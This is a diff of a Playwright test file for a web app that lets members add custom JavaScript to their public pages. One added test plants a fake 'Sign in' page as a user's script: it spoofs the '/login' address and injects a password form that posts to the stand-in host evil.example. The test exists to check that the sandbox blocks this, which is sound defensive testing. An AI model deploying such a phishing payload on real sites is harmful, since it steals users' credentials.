@@ -86,7 +86,7 @@ test("custom JavaScript of a draft gets nothing from its editor", async ({ page,
   await beSignedIn(page, owner);
   await openApp(page, owner);
   // because React would put its own document back over what this test draws into it
-  await page.goto("/login", { waitUntil: "networkidle" });
+  await page.goto("/forgot-password", { waitUntil: "networkidle" });
   const before = await belongings(request, owner);
   const shown = watchDialogs(page);
   const { html } = (await (
@@ -110,9 +110,59 @@ test("custom JavaScript of a draft gets nothing from its editor", async ({ page,
   await expect(draft.getByRole("heading", { name: "A draft" })).toBeVisible();
   expect(await loot(draft)).toEqual({});
   expect(shown).toEqual([]);
-  expect(new URL(page.url()).pathname).toBe("/login");
+  expect(new URL(page.url()).pathname).toBe("/forgot-password");
   expect(await page.evaluate(() => localStorage.getItem("auth_token"))).toBe(owner.token);
   expect(await belongings(request, owner)).toEqual(before);
+});
+
+test("custom JavaScript shows no path of the application in the address bar and posts no form elsewhere", async ({
+  page,
+  request,
+  baseURL,
+}) => {
+  const owner = await newMember(request);
+  const fake = [
+    "history.replaceState(null, '', '/login');",
+    "document.title = 'Sign in';",
+    "document.body.innerHTML = '<h1>Sign in</h1><form method=post action=https://evil.example/take><input name=password value=secret><button>Sign in</button></form>';",
+    `try { history.replaceState(null, '', '${baseURL}/login'); document.title = 'taken'; } catch {}`,
+  ].join("\n");
+  await giveAppearance(request, owner, { custom_js: fake });
+  const posted: string[] = [];
+  page.on("request", (each) => each.method() === "POST" && posted.push(new URL(each.url()).pathname));
+  await page.goto(`/${owner.username}`);
+  await expect(page).toHaveTitle("Sign in");
+  const shown = new URL(page.url());
+  expect([shown.hostname, shown.pathname]).toEqual(["pages.localhost", "/login"]);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  for (const action of ["/users/login", "https://evil.example/take"])
+    await page.evaluate((target) => {
+      const form = document.querySelector("form")!;
+      form.action = target;
+      HTMLFormElement.prototype.submit.call(form);
+    }, action);
+  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
+  expect(posted.filter((path) => !path.startsWith("/v1/log/visit/"))).toEqual([]);
+  expect((await page.reload())!.status()).toBe(404);
+  await expect(page.getByLabel("Password")).toHaveCount(0);
+});
+
+test("an owner who looks at their page with custom JavaScript is known there, and the address stays clean", async ({
+  page,
+  request,
+}) => {
+  const owner = await newMember(request);
+  await giveAppearance(request, owner, { custom_js: "document.title = 'mine'" });
+  await giveLinks(request, owner, ["Shop"]);
+  const { cookies } = await request.storageState();
+  await page.context().addCookies(cookies);
+  const reports = () => page.waitForRequest((each) => each.method() === "POST" && each.url().includes("/v1/"));
+  const [visit] = await Promise.all([reports(), page.goto(`/${owner.username}`)]);
+  await expect(page).toHaveTitle("mine");
+  expect(new URL(page.url()).search).toBe("");
+  const { own } = visit.postDataJSON() as { own?: string };
+  expect(own).toContain(owner.id);
+  expect(await page.locator('link[rel="canonical"]').getAttribute("href")).toBe(page.url());
 });
 
 test("custom CSS draws, and ends no element, runs no script and asks no stranger", async ({ page, request }) => {
